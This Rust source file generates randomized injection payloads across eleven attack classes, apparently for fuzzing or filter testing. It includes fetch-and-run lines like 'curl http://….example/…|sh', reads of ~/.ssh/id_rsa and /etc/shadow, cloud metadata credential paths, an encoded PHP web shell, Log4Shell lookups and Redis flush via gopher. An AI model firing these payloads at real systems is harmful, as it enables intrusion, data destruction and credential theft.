//! Attack strings by grammar: every call makes a new one from random parts, so that no list can know them.

use fastrand::Rng;

/// A grammar: makes a new attack string with every call.
pub type Grammar = fn(&mut Rng) -> String;

/// Every grammar of attacks, by the class of what it makes.
pub const GRAMMARS: [(&str, Grammar); 11] = [
    ("sqli", sql),
    ("xss", script),
    ("traversal", traversal),
    ("ssti", template),
    ("command", command),
    ("xxe", entity),
    ("ssrf", internal_address),
    ("rfi", remote_file),
    ("nosqli", nosql),
    ("ldap", directory_filter),
    ("php", code),
];

fn one<'a>(rng: &mut Rng, from: &[&'a str]) -> &'a str {
    from.get(rng.usize(..from.len().max(1))).copied().unwrap_or("")
}

fn word(rng: &mut Rng) -> String {
    (0..rng.usize(3..8)).map(|_| rng.lowercase()).collect()
}

/// Writes a keyword in a random mix of cases.
fn cased(rng: &mut Rng, keyword: &str) -> String {
    match rng.u8(..3) {
        0 => keyword.to_owned(),
        1 => keyword.to_uppercase(),
        _ => keyword.chars().map(|c| if rng.bool() { c.to_ascii_uppercase() } else { c }).collect(),
    }
}

/// White space as SQL reads it.
fn gap(rng: &mut Rng) -> &'static str {
    one(rng, &[" ", " ", " ", "/**/", "\t", "\n", "  "])
}

/// SQL injection: a way out of the literal, then a tautology, union, stacked query, or time delay.
pub fn sql(rng: &mut Rng) -> String {
    let out = one(rng, &["'", "\"", "')", "1'", "-1", "1)", "x'"]);
    let end = one(rng, &["-- -", "--", "#", ";--", "/*", ""]);
    let (a, b, c) = (gap(rng), gap(rng), gap(rng));
    let n = rng.u32(1..9_999);
    let body = match rng.u8(..6) {
        0 => format!("{}{b}{n}={n}", cased(rng, "or")),
        1 => {
            let w = word(rng);
            format!("{}{b}'{w}'='{w}", cased(rng, "or"))
        }
        2 => {
            let columns = (0..rng.usize(1..7))
                .map(|_| one(rng, &["null", "1", "@@version", "user()", "database()"]))
                .collect::<Vec<_>>()
                .join(",");
            let (union, select) = (cased(rng, "union"), cased(rng, "select"));
            let from = if rng.bool() {
                format!(
                    "{c}{}{c}{}",
                    cased(rng, "from"),
                    one(rng, &["users", "information_schema.tables", "accounts"])
                )
            } else {
                String::new()
            };
            format!("{union}{b}{select}{c}{columns}{from}")
        }
        3 => format!(
            "{}{b}{}{c}{}",
            cased(rng, "; drop"),
            cased(rng, "table"),
            one(rng, &["users", "orders", "sessions"])
        ),
        4 => format!(
            "{}{b}{}({})",
            cased(rng, "and"),
            one(rng, &["sleep", "pg_sleep", "benchmark"]),
            rng.u8(2..9)
        ),
        _ => format!(
            "{}{b}{}(({}{c}{}(1,concat(0x7e,version()))))",
            cased(rng, "and"),
            one(rng, &["extractvalue", "updatexml"]),
            cased(rng, "select"),
            "concat"
        ),
    };
    format!("{out}{a}{body}{end}")
}

/// Script injection: a tag, an event handler, or a script URL.
pub fn script(rng: &mut Rng) -> String {
    let call = format!(
        "{}({})",
        one(rng, &["alert", "confirm", "prompt", "eval", "fetch"]),
        one(rng, &["1", "document.cookie", "document.domain", "`x`"])
    );
    match rng.u8(..5) {
        0 => format!("<{0}>{call}</{0}>", cased(rng, "script")),
        1 => format!(
            "<{} {}={call}>",
            one(rng, &["img src=x", "svg", "body", "input autofocus"]),
            one(rng, &["onerror", "onload", "onfocus"])
        ),
        2 => format!("\"><svg/onload={call}>"),
        3 => format!("javascript:{call}"),
        _ => format!("'-{call}-'"),
    }
}

/// Path traversal: some way up, then a file worth reading.
pub fn traversal(rng: &mut Rng) -> String {
    let up = one(rng, &["../", "..\\", "..%2f", "....//", "%2e%2e/", "..%252f"]);
    let file =
        one(rng, &["etc/passwd", "etc/shadow", "proc/self/environ", "windows/win.ini", "var/log/auth.log"]);
    format!("{}{file}", up.repeat(rng.usize(2..9)))
}

/// Template injection: an expression in the delimiters of some engine.
pub fn template(rng: &mut Rng) -> String {
    let (a, b) = (rng.u32(11..999), rng.u32(11..999));
    let expression = match rng.u8(..3) {
        0 => format!("{a}*{b}"),
        1 => format!("config.__class__.__init__.__globals__['{}']", word(rng)),
        _ => format!("''.__class__.__mro__[{}].__subclasses__()", rng.u8(1..4)),
    };
    match rng.u8(..5) {
        0 => format!("{{{{{expression}}}}}"),
        1 => format!("${{{expression}}}"),
        2 => format!("#{{{expression}}}"),
        3 => format!("<%= {expression} %>"),
        _ => format!("${{jndi:ldap://{}.example/{}}}", word(rng), word(rng)),
    }
}

/// Command injection: a separator, then a command with an argument.
pub fn command(rng: &mut Rng) -> String {
    let separator = one(rng, &[";", "|", "||", "&&", "\n"]);
    let command = match rng.u8(..4) {
        0 => format!("cat {}", one(rng, &["/etc/passwd", "/etc/hosts", "~/.ssh/id_rsa"])),
        1 => format!("curl http://{}.example/{}|sh", word(rng), word(rng)),
        2 => format!("ping -c {} 127.0.0.1", rng.u8(3..20)),
        _ => one(rng, &["id", "whoami", "uname -a", "ls -la /"]).to_owned(),
    };
    match rng.u8(..3) {
        0 => format!("{}{separator}{command}", word(rng)),
        1 => format!("$({command})"),
        _ => format!("`{command}`"),
    }
}

/// XML external entities: a document type that reads a file or an address.
pub fn entity(rng: &mut Rng) -> String {
    let name = word(rng);
    let target = match rng.u8(..4) {
        0 => format!("file:///{}", one(rng, &["etc/passwd", "etc/hostname", "c:/windows/win.ini"])),
        1 => format!("http://{}.example/{}.dtd", word(rng), word(rng)),
        2 => "php://filter/read=convert.base64-encode/resource=index.php".to_owned(),
        _ => format!("{}://{}.example/", one(rng, &["gopher", "ftp", "jar", "expect"]), word(rng)),
    };
    let head = one(rng, &["<?xml version=\"1.0\"?>", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", ""]);
    let keyword = one(rng, &["SYSTEM", "PUBLIC \"x\""]);
    let root = word(rng);
    if rng.bool() {
        format!("{head}<!DOCTYPE {root} [<!ENTITY {name} {keyword} \"{target}\">]><{root}>&{name};</{root}>")
    } else {
        format!("{head}<!DOCTYPE {root} [<!ENTITY % {name} {keyword} \"{target}\"> %{name};]>")
    }
}

/// Server-side request forgery: an address that only the server can reach, in one of many spellings.
pub fn internal_address(rng: &mut Rng) -> String {
    let host = match rng.u8(..8) {
        0 => "169.254.169.254".to_owned(),
        1 => "127.0.0.1".to_owned(),
        2 => "localhost".to_owned(),
        3 => "[::1]".to_owned(),
        4 => "0x7f000001".to_owned(),
        5 => "2130706433".to_owned(),
        6 => format!("10.{}.{}.{}", rng.u8(..), rng.u8(..), rng.u8(1..)),
        _ => one(rng, &["metadata.google.internal", "127.1", "0", "017700000001", "127.0.0.1.nip.io"])
            .to_owned(),
    };
    let path = one(
        rng,
        &[
            "/latest/meta-data/iam/security-credentials/",
            "/computeMetadata/v1/",
            "/admin",
            "/server-status",
            "/",
            "",
        ],
    );
    let port = one(rng, &["", "", ":22", ":6379", ":8080", ":9200", ":3306"]);
    let scheme = one(rng, &["http", "http", "https", "gopher", "dict", "ftp", "file", "ldap", "tftp"]);
    match rng.u8(..5) {
        0 => format!("{scheme}://{}@{host}{port}{path}", word(rng)),
        1 if scheme == "gopher" => format!("{scheme}://{host}:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a"),
        _ => format!("{scheme}://{host}{port}{path}"),
    }
}

/// Remote file inclusion: a script elsewhere, or a stream wrapper.
pub fn remote_file(rng: &mut Rng) -> String {
    let address = format!("{}.{}.{}.{}", rng.u8(1..224), rng.u8(..), rng.u8(..), rng.u8(1..));
    match rng.u8(..5) {
        0 => format!("http://{address}/{}.txt?", one(rng, &["shell", "c99", "r57", "cmd"])),
        1 => format!("{}://{}.example/{}.php?", one(rng, &["http", "https", "ftp"]), word(rng), word(rng)),
        2 => format!("php://filter/convert.base64-encode/resource={}.php", word(rng)),
        3 => format!("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+{}", rng.u8(..)),
        _ => one(
            rng,
            &["php://input", "expect://id", "zip://x.zip#y.php", "phar://x.phar", "file:///etc/passwd"],
        )
        .to_owned(),
    }
}

/// NoSQL injection: operators where a value belongs, or JavaScript in a `$where`.
pub fn nosql(rng: &mut Rng) -> String {
    let name = word(rng);
    match rng.u8(..6) {
        0 => format!("{{\"${}\":\"\"}}", one(rng, &["ne", "gt", "gte", "lt", "nin", "exists"])),
        1 => format!("{{\"{name}\":{{\"$regex\":\"^{}.*\"}}}}", word(rng)),
        2 => format!("{{\"$where\":\"this.{name} == '{}' || 1==1\"}}", word(rng)),
        3 => format!("'; return '' == '{}", one(rng, &["", "a"])),
        4 => format!("' || this.{name}.match(/.*/) || '{}'=='", one(rng, &["a", "1"])),
        _ => format!("{{${}: [{{}}, {{'{name}':'{}'}}]}}", one(rng, &["or", "and", "nor"]), word(rng)),
    }
}

/// LDAP injection: a way out of the filter.
pub fn directory_filter(rng: &mut Rng) -> String {
    let attribute = one(rng, &["uid", "cn", "mail", "objectClass", "userPassword", "sn"]);
    match rng.u8(..5) {
        0 => format!("*)({attribute}=*"),
        1 => format!("*)({attribute}=*))(|({attribute}=*"),
        2 => format!("{})(&", word(rng)),
        3 => format!("{})(|({attribute}={}*)", word(rng), word(rng)),
        _ => format!("*{}))%00", word(rng)),
    }
}

/// Code injection: PHP, Java, JavaScript or Perl that runs something.
pub fn code(rng: &mut Rng) -> String {
    let run = one(rng, &["system", "exec", "passthru", "shell_exec", "eval", "assert", "popen"]);
    let what = one(rng, &["'id'", "\"whoami\"", "$_GET[0]", "$_POST['c']", "base64_decode($x)"]);
    match rng.u8(..8) {
        0 => format!("<?php {run}({what}); ?>"),
        1 => format!("{};{run}({what});//", word(rng)),
        2 => format!("${{@{run}({what})}}"),
        3 => format!("java.lang.Runtime.getRuntime().exec({what})"),
        4 => format!("new java.lang.ProcessBuilder({{'{}'}}).start()", word(rng)),
        5 => format!("require('child_process').execSync({what})"),
        6 => format!("O:{}:\"{}\":1:{{s:{}:\"{}\";i:0;}}", rng.u8(1..30), word(rng), rng.u8(1..9), word(rng)),
        _ => format!(
            "${{jndi:{}://{}.example/{}}}",
            one(rng, &["ldap", "rmi", "dns", "ldaps"]),
            word(rng),
            word(rng)
        ),
    }
}

/// A value that no rule knows and no honest client sends: wrong type, wrong size, wrong alphabet.
pub fn odd(rng: &mut Rng) -> Vec<u8> {
    match rng.u8(..9) {
        0 => vec![b'A'; rng.usize(300..3_000)],
        1 => one(rng, &["-1", "0x7fffffff", "99999999999999999999", "1e309", "NaN", "-0.0"])
            .as_bytes()
            .to_vec(),
        2 => "%s%n%x%d".repeat(rng.usize(1..6)).into_bytes(),
        3 => (0..rng.usize(20..120)).map(|_| rng.u8(0x80..)).collect(),
        4 => "[[[[{{{{".repeat(rng.usize(1..12)).into_bytes(),
        5 => (0..rng.usize(8..60)).map(|_| rng.u8(1..32)).collect(),
        6 => (0..rng.usize(60..300)).map(|_| rng.alphanumeric()).collect::<String>().into_bytes(),
        7 => one(rng, &["undefined", "null", "[object Object]", "true\u{0}", "__proto__", "constructor"])
            .as_bytes()
            .to_vec(),
        _ => "\u{202e}\u{feff}\u{200b}".repeat(rng.usize(2..20)).into_bytes(),
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn each_grammar_makes_many_different_strings() {
        for (name, make) in GRAMMARS {
            let mut rng = Rng::with_seed(5);
            let made: BTreeSet<String> = (0..500).map(|_| make(&mut rng)).collect();
            assert!(made.len() >= 60, "{name}: {} different of 500", made.len());
            assert!(made.iter().all(|payload| payload.len() >= 4), "{name}");
        }
    }
}
